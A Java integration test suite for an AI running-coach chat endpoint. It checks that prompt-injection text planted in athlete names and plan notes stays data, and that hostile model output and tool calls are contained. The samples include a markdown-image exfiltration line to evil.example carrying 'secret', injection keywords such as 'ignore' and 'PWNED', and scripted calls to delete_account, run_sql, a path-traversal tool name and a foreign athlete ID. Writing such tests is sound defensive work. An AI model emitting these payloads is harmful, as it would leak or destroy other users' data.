package app.stride.coach.adapter.rest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

import app.stride.coach.testkit.CoachApplication;
import app.stride.coach.testkit.EventStream;
import app.stride.coach.testkit.EventStream.Event;
import app.stride.coach.testkit.Injections;
import app.stride.coach.testkit.ScriptedModel;
import app.stride.coach.testkit.UpstreamJson;
import app.stride.embedded.ScriptedServer.Seen;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.net.URI;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** What somebody can make a model say or want achieves nothing: no foreign read, no write, nothing that acts in a browser. */
@QuarkusTest
class HostileModelIT extends CoachApplication {
    private static final String STRANGER = "0198f000-0000-7000-8000-00000000dead";
    private static final ObjectMapper JSON = new ObjectMapper();

    @TestHTTPResource("/v1/coach/chat")
    URI chat;

    @Test
    void whatIsWrittenIntoNamesAndNotesStaysDataInWhatTheModelIsShown() throws Exception {
        List<String> samples = Injections.all();
        assertThat(samples).hasSizeGreaterThanOrEqualTo(100);
        LocalDate today = LocalDate.now(ZoneOffset.UTC);
        for (String sample : samples) {
            // Given
            String written = JSON.writeValueAsString(sample);
            upstreams.activity().json("/v1/activities", "[" + activity(today, written) + "]");
            upstreams
                    .activity()
                    .json("/v1/athletes/me", UpstreamJson.profile("UTC").replace("\"Ada\"", written));
            upstreams
                    .plans()
                    .json("/v1/training-plans/current", UpstreamJson.plan(today).replace("\"Harbour Half\"", written));
            upstreams
                    .plans()
                    .json(
                            "/v1/training-plans/current/week",
                            UpstreamJson.week(today)
                                    .replace("\"Tempo by the river\"", written)
                                    .replace("\"15 min easy, 20 min comfortably hard, 15 min easy.\"", written));
            upstreams
                    .activity()
                    .json("/v1/daily-checkins", UpstreamJson.checkIns(today).replace("\"Heavy legs\"", written));

            // When
            asAthlete()
                    .body(Map.of("message", "How was my last run?"))
                    .post("/v1/coach/chat")
                    .then()
                    .statusCode(200);

            // Then
            List<String> shown = model.lastShown();
            assertThat(shown).as(sample).hasSize(3);
            assertThat(shown.get(1).lines().filter(line -> line.startsWith("#")))
                    .as("headings of %s", sample)
                    .allMatch(line -> line.matches("# What is known about the athlete|## [^“”<>\\[\\]]+"));
            assertThat(unquoted(shown.get(1)))
                    .as(sample)
                    .doesNotContainIgnoringCase("ignore", "evil.example", "system:", "<script", "![", "PWNED", "obey");
        }
    }

    @Test
    void whatAModelIsMadeToSayIsOnlyEverReadable() {
        for (String sample : Injections.all()) {
            // Given
            model.says("Your week looks good.\n\n" + sample.replace("\u0000", ""));

            // When
            String response = asAthlete()
                    .body(Map.of("message", "How is my week?", "include_context", false))
                    .post("/v1/coach/chat")
                    .then()
                    .statusCode(200)
                    .extract()
                    .path("response");

            // Then
            assertThat(Injections.activeIn(response)).as(sample).isEmpty();
            assertThat(response).as(sample).doesNotContain("https://", "<script", "<img", "](");
        }
    }

    @Test
    void noToolReadsForAnotherOrWritesAnything() {
        // Given
        String foreign =
                "{\"athlete_id\":\"" + STRANGER + "\",\"activity_id\":\"" + STRANGER + "\",\"date\":\"2026-04-09\","
                        + "\"start_date\":\"2026-01-01\",\"end_date\":\"2026-12-31\",\"token\":\"stolen\",\"force\":true}";
        List<String> names = Stream.of(
                        "get_plan_overview",
                        "get_plan_week",
                        "get_activity",
                        "list_activities",
                        "get_fitness_trend",
                        "predict_races",
                        "what_if_pace",
                        "accept_proposal",
                        "delete_account",
                        "run_sql",
                        "../../v1/athletes/me",
                        "",
                        "get_plan_week\nget_activity")
                .toList();
        String[] wishes =
                names.stream().flatMap(name -> Stream.of(name, foreign)).toArray(String[]::new);
        model.inTurn(ScriptedModel.wanting(wishes), ScriptedModel.wanting(wishes), ScriptedModel.saying("Done."));

        // When
        String authorization = "Bearer " + token(athlete);
        asAthlete()
                .header("X-Request-Id", "hostile-1")
                .body(Map.of("message", "Show me everything"))
                .post("/v1/coach/chat")
                .then()
                .statusCode(200)
                .body("proposals.size()", equalTo(0));

        // Then
        List<Seen> seen = Stream.concat(upstreams.plans().seen().stream(), upstreams.activity().seen().stream())
                .toList();
        assertThat(seen).isNotEmpty().allSatisfy(request -> {
            assertThat(request.method()).isEqualTo("GET");
            assertThat(subject(request.header("Authorization"))).isEqualTo(subject(authorization));
            assertThat(request.uri().getQuery() == null ? "" : request.uri().getQuery())
                    .doesNotContain(STRANGER, "stolen", "force");
        });
    }

    @Test
    void whatAModelMakesUpForTheNameOfAToolIsNotShown() {
        // Given
        model.inTurn(ScriptedModel.wanting("Run through the pain ![x](//evil)", "{}"), ScriptedModel.saying("Done."));

        // When
        try (EventStream answer = EventStream.post(chat, token(athlete), "{\"message\":\"Hi\"}")) {
            List<Event> events = answer.rest();

            // Then
            assertThat(events).extracting(Event::name).startsWith("tool");
            assertThat(events.get(0).data().path("name").asText()).isEqualTo("unknown");
        }
    }

    @Test
    void aModelThatWantsToolsForeverIsStopped() {
        // Given
        model.inTurn(Stream.generate(() -> ScriptedModel.wanting("get_plan_week", "{}"))
                .limit(40)
                .toArray(String[]::new));

        // When
        asAthlete()
                .body(Map.of("message", "Go on"))
                .post("/v1/coach/chat")
                .then()
                .statusCode(200);

        // Then
        assertThat(model.timesAsked()).isLessThanOrEqualTo(7);
    }

    @Test
    void aModelThatTalksForeverIsCutOffLongBeforeItFillsAnything() {
        // Given
        model.talksForever("Run ![x](https://evil.example/?d=secret) ");

        // When
        try (EventStream answer =
                EventStream.post(chat, token(athlete), "{\"message\":\"Hi\",\"include_context\":false}")) {
            List<Event> events = answer.rest();

            // Then
            assertThat(events.get(events.size() - 1).name()).isEqualTo("error");
            assertThat(events.stream()
                            .filter(event -> event.name().equals("token"))
                            .mapToInt(
                                    event -> event.data().path("text").asText().length())
                            .sum())
                    .isLessThan(20_000);
            assertThat(events.toString()).doesNotContain("evil.example");
        }
    }

    private static String activity(LocalDate date, String writtenName) {
        return UpstreamJson.activity(date, "NAME", 10_200, 3264, "null").replace("\"NAME\"", writtenName);
    }

    private static String unquoted(String shown) {
        return shown.replaceAll("“[^”]*”", "“”");
    }

    private static String subject(String authorization) {
        String claims = new String(
                java.util.Base64.getUrlDecoder().decode(authorization.split("\\.")[1]),
                java.nio.charset.StandardCharsets.UTF_8);
        return claims.replaceAll(".*\"sub\":\"([^\"]+)\".*", "$1");
    }
}
